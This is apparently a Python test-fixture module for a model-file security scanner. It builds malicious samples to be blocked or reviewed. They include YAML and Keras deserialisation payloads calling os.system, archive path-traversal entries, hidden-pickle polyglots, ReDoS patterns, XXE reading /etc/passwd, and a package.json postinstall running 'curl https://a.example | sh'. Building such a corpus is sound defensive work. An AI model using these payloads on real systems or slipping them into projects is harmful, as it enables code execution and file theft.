"""Documents, names, archives and models that lead a loader, or a person, to run something."""

import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

from modelshelf.vetting.rules import words
from tests.core.vetting import ggufs, others, pickled, safe
from tests.core.vetting.others import ELF, PE, PNG, SYSTEM, field, hdf5, keras, layer, node, onnx, tar, varint


def bad() -> Iterator[tuple[str, bytes]]:
    """(name, bytes) that must block."""
    yield from _keras()
    yield from _yaml()
    yield from _json()
    yield from _polyglots()
    yield from _archives()
    yield from _names()
    yield from _graphs()
    yield from _headers()


def _keras() -> Iterator[tuple[str, bytes]]:
    cases: dict[str, dict[str, Any]] = {
        "dotted class": layer("utils.get_file", "keras"),
        "dotted function": {**layer("function", "builtins"), "config": "keras.utils.get_file"},
        "python": {**layer("function", "builtins"), "config": "exec"},
        "import": {**layer("function", "builtins"), "config": "__import__"},
        "loader": layer("load_model", "keras.models"),
        "json loader": layer("model_from_json", "keras.models"),
        "unsafe switch": layer("enable_unsafe_deserialization", "keras.config"),
        "unsafe switch in src": layer("enable_unsafe_deserialization", "keras.src.saving.serialization_lib"),
        "saved model": layer("TFSMLayer", config={"filepath": "/tmp/x"}),
        "vocabulary file": layer("StringLookup", config={"vocabulary": "/etc/passwd"}),
        "vocabulary address": layer("TextVectorization", config={"vocabulary": "http://a.example/x"}),
        "integers of a file": layer("IntegerLookup", config={"vocabulary": "../x"}),
        "downloader": layer("load_data", "keras.datasets.mnist"),
        "callback": layer("ModelCheckpoint", "keras.callbacks", {"filepath": "/etc/x"}),
        "wrapper": layer("SKLearnClassifier", "keras.wrappers"),
        "importer": layer("import_module", "importlib"),
        "call of a call": layer("Dense", config={"activation": layer("system", "os")}),
        "by registered name": {**layer("Dense", "keras.layers"), "class_name": "Lambda", "registered_name": "Lambda"},
        "tensorflow io": layer("write_file", "tensorflow.io"),
        "numpy load": layer("load", "numpy"),
        "module that ends like keras": layer("x", "evil.keras"),
        "module that begins like keras": layer("x", "keras_evil.layers"),
    }
    for name, value in cases.items():
        yield f"{name}.keras", keras(value)
        yield f"{name} model.json", json.dumps({**layer("Sequential", "keras"), "config": {"layers": [value]}}).encode()
        yield f"{name}.h5", hdf5(json.dumps(value).encode())
    yield "escaped lambda.h5", hdf5(b'{"class_name": "Lam\\u0062da", "config": {}}')
    yield "escaped key.h5", hdf5(b'{"class\\u005fname": "Lambda", "config": {}}')
    yield "escaped module.h5", hdf5(b'{"module": "\\u006fs", "class_name": "system"}')
    yield "spread lambda.h5", hdf5(b'{"class_name"\n:\n\t"Lambda"}')
    yield "lambda by a prefix.h5", hdf5(b'{"class_name": "Custom>Lambda", "config": {}}')
    yield "lambda over an edge.h5", hdf5(bytes((8 << 20) - 96 - 9) + b'{"class_name": "Lambda", "config": {}}')
    config = json.dumps({**layer("Sequential", "keras"), "config": {"layers": []}}).encode()
    yield "weights.keras", pickled.archive({"config.json": config, "model.weights.h5": SYSTEM})
    yield "assets.keras", pickled.archive({"config.json": config, "assets/x.so": ELF})
    yield "twice.keras", pickled.archive({"config.json": b'{"class_name": "Lambda", "class_name": "Dense"}'})


def _yaml() -> Iterator[tuple[str, bytes]]:
    cases = (
        "!!python/object/new:os.system ['id']",
        "!!python/module:os",
        "!!python/tuple [!!python/name:os.system '']",
        "! !python/name:os.system",
        "[!!python/name:os.system '']",
        "{b: !!python/name:os.system ''}",
        "&x !!python/name:os.system ''",
        "!new:os.system [id]",
        "!apply:subprocess.Popen [id]",
        "!name:os.system",
        "!!javax.script.ScriptEngineManager []",
        "!ruby/object:Gem::Installer {}",
        "!php/object 'x'",
        "!<tag:yaml.org,2002:python/name:os.system>",
        "!!python/object/apply:eval ['1']",
        '["x #", !!python/name:os.system]',
        '["x #", !new:os.system {}]',
        '["x #", {_target_: os.system}]',
    )
    for number, value in enumerate(cases):
        yield f"tag {number}.yaml", f"a: {value}\n".encode()
    yield "deep tag.yaml", b"a:\n  b:\n    - c: !!python/name:os.system\n"
    yield "late tag.yaml", b"# x\n" * (3 << 20) + b"a: !!python/name:os.system\n"
    yield "utf16.yaml", "a: !!python/name:os.system\n".encode("utf-16")
    yield "hydra.yaml", b"a:\n  _target_: subprocess.Popen\n  args: [id]\n"
    yield "quoted hydra.yaml", b'a: {"_target_": "os.system", command: id}\n'
    yield "flow hydra.yaml", b"a: {_target_: builtins.eval, _args_: ['1']}\n"
    yield "diffusion.yaml", b"model:\n  target: os.system\n  params: {command: id}\n"
    small = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
    )
    yield "laughs.yml", small.encode()
    pairs = "a0: &a0 {x: 1}\n" + "".join(f"a{i}: &a{i} {{l: *a{i - 1}, r: *a{i - 1}}}\n" for i in range(1, 40))
    yield "doubling.yaml", pairs.encode()
    yield "hidden by a quote.yaml", b'a: ["x\n# ", !!python/name:os.system]\n'
    hidden = '"x #"'
    layers = [f"a{i}: &a{i} [{hidden}, {', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    yield "hidden laughs.yaml", "\n".join([f"a0: &a0 [{hidden}, x]", *layers]).encode()
    yield "itself.yaml", b"a: &a [*a, *a]\n"


def _json() -> Iterator[tuple[str, bytes]]:
    template = "{{ ''.__class__.__mro__ }}"
    yield "chat_template.json", json.dumps({"chat_template": template}).encode()
    yield "processor_config.json", json.dumps({"chat_template": {"default": template}}).encode()
    yield "escaped tokenizer_config.json", b'{"chat\\u005ftemplate": "{{ \'\'.__class__ }}"}'
    yield "list tokenizer_config.json", json.dumps({"chat_template": [template]}).encode()
    yield "utf16 config.json", json.dumps({"a": 1}).encode("utf-16")
    yield "minus config.json", b'{"a": -' + b"9" * 5000 + b"}"
    yield "exponent config.json", b'{"hidden_size": 1e999999999999999999999999999999999999999999, "a": 1, "a": 2}'
    yield "double deep.json", b'{"x": [{"a": 1, "\\u0061": 2}]}'
    yield "tail config.json", b'{"a": 1} {"b": 2}'
    yield "pickle behind config.json", b'{"a": 1}' + SYSTEM
    yield "nul config.json", b'{"a": "\0"}'
    yield "modules pickle.json", b'[{"idx": 0, "name": "0", "path": "", "type": "pickle.loads"}]'
    yield "modules builtins.json", b'[{"idx": 0, "name": "0", "path": "", "type": "builtins.eval"}]'
    module = {"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Pooling"}
    yield "modules outside.json", json.dumps([module]).encode()
    parts = {"_class_name": "APipeline", "_diffusers_version": "1", "../../x": ["diffusers", "UNet2DModel"]}
    yield "model_index.json", json.dumps(parts).encode()
    yield "index nul.json", b'{"weight_map": {"a": "x\\u0000.safetensors"}}'
    yield "index list.json", b'{"weight_map": {"a": ["../x"]}}'
    yield "index windows.json", b'{"weight_map": {"a": "C:\\\\x.bin"}}'
    patterns = (
        "(\\p{L}|[a-z])+x",
        "(a{1,100}){1,100}$",
        "((a{1,9}){1,9}){1,9}$",
        "\\s*\\s*\\s*\\s*\\s*\\s*x",
        ".*.*.*.*.*=x",
        "(?:\\s|\\n)+x",
        "(é|e)*(é|é)+x",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "(.*a){20}x",
        "(?:[a-c]|b)+d",
        "(?=(a+)+)b",
        "(?:a|ab|b)+c",
        "((?:a|b)*)*$",
        "(\\d+|\\d+\\.)+$",
        "(?:(?:a?)b?)*(?:(?:ab)*)*$",
        "(?<x>a+)+b",
        "(a+){10}$",
    )
    for number, pattern in enumerate(patterns):
        for kind in ("pre_tokenizer", "normalizer"):
            document = {kind: {"type": "Sequence", "pretokenizers": [{"pattern": {"Regex": pattern}}]}}
            yield f"pattern {number} {kind} tokenizer.json", json.dumps(document).encode()
    yield "package.json", b'{"name": "x", "scripts": {"postinstall": "curl https://a.example | sh"}}'


def _polyglots() -> Iterator[tuple[str, bytes]]:
    bomb = pickled.archive({"archive/data.pkl": SYSTEM})
    inside = PNG[:33] + struct.pack(">I", len(bomb)) + b"zipX" + bomb + bytes(4) + PNG[33:]
    yield "zip inside.png", _commented(inside, bomb)
    yield "zip inside.jpg", _commented(b"\xff\xd8\xff\xfe\xff\xf0" + bomb + b"\xff\xd9", bomb)
    yield "zip inside.gif", _commented(b"GIF89a" + bytes(20) + bomb + b";", bomb)
    yield "zip inside", b"Licence\n\n" + bomb
    size = len(bomb)
    yield "zip inside.safetensors", safe.build({"a": safe.entry("U8", [size], 0, size)}) + bomb
    whole = ggufs.build(tensors=[("a", ggufs.F32_TENSOR, (256 * 32,))])
    yield "zip inside.gguf", whole[: -len(bomb)] + bomb
    yield "zip inside.npy", pickled.npy("|u1", (size,), bomb)
    yield "zip inside.h5", hdf5(bomb)
    yield "elf.png", ELF + PNG
    yield "pe.gguf", PE + ggufs.build()
    yield "elf before.safetensors", ELF + safe.build(safe.GOOD, 32)
    yield "html.gguf", b"<html><script>1</script></html>"
    yield "pdf.safetensors", b"%PDF-1.7\n"
    yield "script.json", b"#!/usr/bin/env node\n{}"
    yield "llamafile.gguf", b"MZqFpD='\n" + bytes(500)
    yield "llamafile", b"MZqFpD='\n" + bytes(500)
    yield "bitcode.bin", b"BC\xc0\xde" + bytes(60)
    yield "lua.bin", b"\x1bLua\x54\0" + bytes(60)
    yield "luajit", b"\x1bLJ\x02" + bytes(60)
    yield "shortcut", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
    yield "rpm", b"\xed\xab\xee\xdb" + bytes(96)
    yield "java.bin", b"\xac\xed\0\5sr\0" + bytes(60)
    yield "r.gz", gzip.compress(b"RDX3\n" + bytes(60))
    yield "net", b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0" + bytes(60)
    yield "flash", b"CWS\x0a" + bytes(60)
    yield "help", b"ITSF\x03\0\0\0" + bytes(60)
    yield "installer", b"xar!\0\x1c\0\x01" + bytes(60)


def _commented(data: bytes, archive: bytes) -> bytes:
    """The archive's end says that what follows it in the data is its comment."""
    place = data.find(archive) + len(archive)
    return data[: place - 2] + struct.pack("<H", len(data) - place) + data[place:]


def _archives() -> Iterator[tuple[str, bytes]]:
    for name in ("../../etc/cron.d/x", "/etc/x", "a/../../x", "..\\x", "C:/x"):
        yield f"slip {name!r}.tar".replace("/", "%"), tar(name, b"x")
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE):
        yield f"kind {kind!r}.tar", tar("a", b"", kind)
    yield "long name.tar", _long_name("../" * 60 + "etc/passwd")
    yield "pax name.tar", _pax("../../x")
    yield "old.tar", _old_tar("model", SYSTEM)
    yield "old.pt", _old_tar("pickle", SYSTEM)
    yield "model.nemo", tar("./model_weights.ckpt", pickled.torch_zip(body=SYSTEM))
    yield "program.tar", tar("bin/x", ELF)
    yield "packed.tgz", gzip.compress(tar("x.so", b"text"))
    yield "packed.tar.xz", lzma.compress(tar("x", SYSTEM))
    deep = SYSTEM
    for _ in range(5):
        deep = gzip.compress(deep)
    yield "onion.gz", deep
    deep = SYSTEM
    for _ in range(5):
        deep = tar("x.tar", deep)
    yield "onion.tar", deep
    yield "bomb.xz", lzma.compress(bytes(80 << 20), preset=0)
    members = {"a/b.txt": b"hello", "model.zip": pickled.archive({"model.pkl": SYSTEM})}
    yield "second floor.zip", pickled.archive(members, packed=True)
    yield "third floor.zip", pickled.archive({"x.zip": pickled.archive(members)}, packed=True)
    yield "macro.docx", pickled.archive({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)})
    yield "classes.jar", pickled.archive({"A.class": b"\xca\xfe\xba\xbe" + bytes(60)})
    yield "wheel.whl", pickled.archive({"x/__init__.py": b""})
    yield "hook.zip", pickled.archive({"sitecustomize.py": b"import os"})
    yield "startup.zip", pickled.archive({"x.pth": b"import os; os.system('id')"})
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_BZIP2) as target:
        target.writestr("a/data.pkl", SYSTEM)
    yield "bzip2.pt", file.getvalue()
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as target:
        target.writestr("a/data.pkl", SYSTEM)
    yield "lzma.pt", file.getvalue()
    yield "spanned.pt", b"PK\x07\x08" + pickled.torch_zip(body=SYSTEM)
    yield "second name.zip", _second_name()
    twin = pickled.torch_zip(body=SYSTEM)
    yield "two archives.pt", pickled.torch_zip() + twin
    yield "inner end.zip", pickled.archive({"x": pickled.archive({"data.pkl": SYSTEM})[:-1]})


def _second_name() -> bytes:
    """A member whose extra field gives it another name, which some readers take."""
    other = b"data.pkl"
    extra = struct.pack("<2HBL", 0x7075, 5 + len(other), 1, zlib.crc32(b"notes.txt")) + other
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as target:
        info = zipfile.ZipInfo("notes.txt")
        info.extra = extra
        target.writestr(info, b"harmless")
    return file.getvalue()


def _long_name(name: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.GNU_FORMAT) as target:
        target.addfile(tarfile.TarInfo(name), io.BytesIO(b""))
    return file.getvalue()


def _pax(name: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as target:
        info = tarfile.TarInfo("harmless")
        info.pax_headers = {"path": name}
        target.addfile(info, io.BytesIO(b""))
    return file.getvalue()


def _old_tar(name: str, data: bytes) -> bytes:
    """As tar wrote before it had a mark."""
    head = (
        name.encode().ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % len(data) + b"0" * 11 + b"\0"
    )
    head += b" " * 8 + b"0"
    head = head.ljust(512, b"\0")
    head = head[:148] + b"%06o\0 " % sum(head) + head[156:]
    return head + data.ljust(-(-len(data) // 512) * 512, b"\0") + bytes(1024)


def _names() -> Iterator[tuple[str, bytes]]:
    endings = words(
        "vbe wsf wsh jse scf url inf cpl pif msp psm1 ps1xml fish csh ksh pyz pyw phar swf appimage run o ko "
        "a elf crx xpi vsix gem scpt xll docm xlsm pptm iso img dmg pkg chm mjs cjs applescript ahk reg nim "
    )
    yield from ((f"file.{ending}", b"text") for ending in sorted(endings))
    for name in ("libfoo.so.1", "libfoo.so.1.2.3", "a.dll.txt.exe", "README.md.lnk", "model.safetensors.bat"):
        yield name, b"text"
    for name in (".git/config", "x/.git/hooks/pre-commit", ".github/../.git/config", ".vscode/tasks.json"):
        yield name, b"{}"
    for name in (".npmrc", ".gitconfig", "sub/.bashrc", ".zshrc", "sitecustomize.py", "x/usercustomize.py", ".netrc"):
        yield name, b"text"
    yield "READ\u202eemx.md", b"text"
    yield "a\u200b.txt", b"text"
    yield "a\nb.txt", b"text"
    yield "a\x1b[31m.txt", b"text"
    yield "weights.pth", b"import os; os.system('id')\n"
    yield "distutils-precedence.pth", b"import os; exec('x')\n"
    yield "evil.ipynb", b'{"cells": [], "nbformat": 4}'
    yield "binary README.md", bytes(range(256))
    yield "binary LICENSE.txt", bytes(range(256))
    yield "binary vocab.txt", b"a\nb\0c\n"
    yield "xxe.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "xxe.pmml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://a.example/">]><a>&x;</a>'


def _graphs() -> Iterator[tuple[str, bytes]]:
    for place in ("../../etc/passwd", "file:///etc/passwd", "a/./b", "/dev/zero", "..", "x/..", "a\x01b"):
        yield f"place {place!r}.onnx".replace("/", "%"), onnx(node("Add"), location=place)
    inner = field(1, node("PyOp")) + field(2, "inner")
    tensor = field(8, "w") + field(13, field(1, "location") + field(2, "../x"))
    attribute = field(11, field(1, "a") + field(5, tensor))
    yield "function default.onnx", onnx(node("Add")) + field(25, field(1, "f") + attribute + field(10, "mine"))
    body = field(1, "body") + field(6, inner)
    yield "python in a branch.onnx", onnx(node("If") + field(5, body))
    function = field(1, "f") + field(7, node("PyOp")) + field(10, "mine")
    yield "python in a function.onnx", onnx(node("f", "mine")) + field(25, function)
    yield "functions.onnx", onnx(node("Add")) + field(25, field(1, "f") + field(7, node("Run", "python.ops")))
    deep = node("Add")
    for _ in range(100):
        deep = node("If") + field(5, field(1, "b") + field(6, field(1, deep)))
    yield "deep.onnx", onnx(deep)
    yield "as bin.onnx", SYSTEM
    yield "text.onnx", b"hello"
    yield "pickle as field.onnx", onnx(node("Add")) + varint(31 << 3 | 2) + varint(len(SYSTEM)) + SYSTEM
    for operation in ("WriteFile", "ReadFile", "PyFunc", "EagerPyFunc", "PyFuncStateless"):
        graph = field(1, field(1, "n") + field(2, operation))
        yield f"{operation}.pb", b"\x08\x01" + field(2, field(2, graph))
        yield (
            f"{operation} function.pb",
            b"\x08\x01" + field(2, field(2, field(2, field(1, field(3, field(2, operation)))))),
        )


def _headers() -> Iterator[tuple[str, bytes]]:
    for key, value in (("llama.block_count", 0xFFFFFFFF), ("llama.block_count", 100_000)):
        yield f"{key} {value}.gguf", ggufs.changed(key, ggufs.U32, value)
    yield "eos negative.gguf", ggufs.changed("tokenizer.ggml.eos_token_id", ggufs.I32, -5)
    yield "eos text.gguf", ggufs.changed("tokenizer.ggml.eos_token_id", ggufs.STRING, "x")
    yield "tokenizer model number.gguf", ggufs.changed("tokenizer.ggml.model", ggufs.U32, 1)
    yield (
        "pattern.gguf",
        ggufs.with_key(
            (
                "tokenizer.huggingface.json",
                ggufs.STRING,
                json.dumps({"pre_tokenizer": {"pattern": {"Regex": "(a+)+$"}}}),
            )
        ),
    )
    yield "big endian.gguf", b"GGUF" + struct.pack(">IQQ", 3, 0, 0)
    yield "zero tensors lie.gguf", ggufs.build(tensors=[], counts=(0, len(ggufs.KEYS) + 3))
    yield (
        "template list.gguf",
        ggufs.with_key(("tokenizer.chat_template", ggufs.ARRAY, (ggufs.STRING, ["{{ ''.__class__ }}"]))),
    )
    yield "header of blanks.safetensors", safe.build(None, raw=b"{" + b" " * 1000)
    yield "header 200 MB.safetensors", struct.pack("<Q", 200 << 20) + b'{"a":' + bytes(100)
    yield "negative length.safetensors", struct.pack("<q", -1) + b'{"a": 1}'
    yield (
        "comments.safetensors",
        safe.build(None, raw=b'{/*x*/"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}') + b"x",
    )
    yield (
        "escaped twice.safetensors",
        safe.build(
            None,
            raw=b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\\u0061":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
            data=1,
        ),
    )
    yield "slash name.safetensors", safe.build({"a" * 600: safe.entry("U8", [1], 0, 1)}, 1)
    yield (
        "exponent.safetensors",
        safe.build(None, raw=b'{"a":{"dtype":"U8","shape":[1e0],"data_offsets":[0,1]}}', data=1),
    )
    yield "huge shape.safetensors", safe.build({"a": safe.entry("U8", [0, 1 << 63], 0, 0)}, 0)


def review() -> Iterator[tuple[str, bytes]]:
    """(name, bytes) that a person must decide on."""
    yield "hyperparams.yaml", b"model: !new:speechbrain.nnet.Linear {n: 1}\n"
    yield "configuration_x.py", b"import os\nos.system('id')\n"
    yield "config auto.json", b'{"auto_map": {"AutoConfig": "other/repo--configuration_x.XConfig"}}'
    yield "vision config.json", b'{"vision_config": {"auto_map": {"AutoModel": "evil/repo--modeling.X"}}}'
    yield "pipeline config.json", b'{"custom_pipelines": {"x": {"impl": "pipeline.X"}}}'
    yield "index.html", b"<!DOCTYPE html><html></html>"
    yield "picture.svg", b"<svg onload='x'></svg>"
    yield "model.msgpack", b"\x81\xa6params\x80" + bytes(100)
    yield "model.tflite", b"\x1c\0\0\0TFL3" + bytes(100)
    yield "labelled.tflite", b"\x1c\0\0\0TFL3" + bytes(100) + pickled.archive({"labels.txt": b"cat\ndog\n"})
    yield "logo.jpg", PNG
    yield "table.arrow", b"ARROW1\0\0" + bytes(60)
    yield "old.dat", b"ggml" + bytes(60)
    yield "ggml-base.bin", b"lmgg" + bytes(60)
    yield "Makefile", b"all:\n\tid\n"
    yield "data.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60)
    yield "saved_model.pb", b"\x08\x01" + field(2, field(2, field(1, field(1, "n") + field(2, "MatMul"))))
    yield "noise", others.bytes_of_noise()
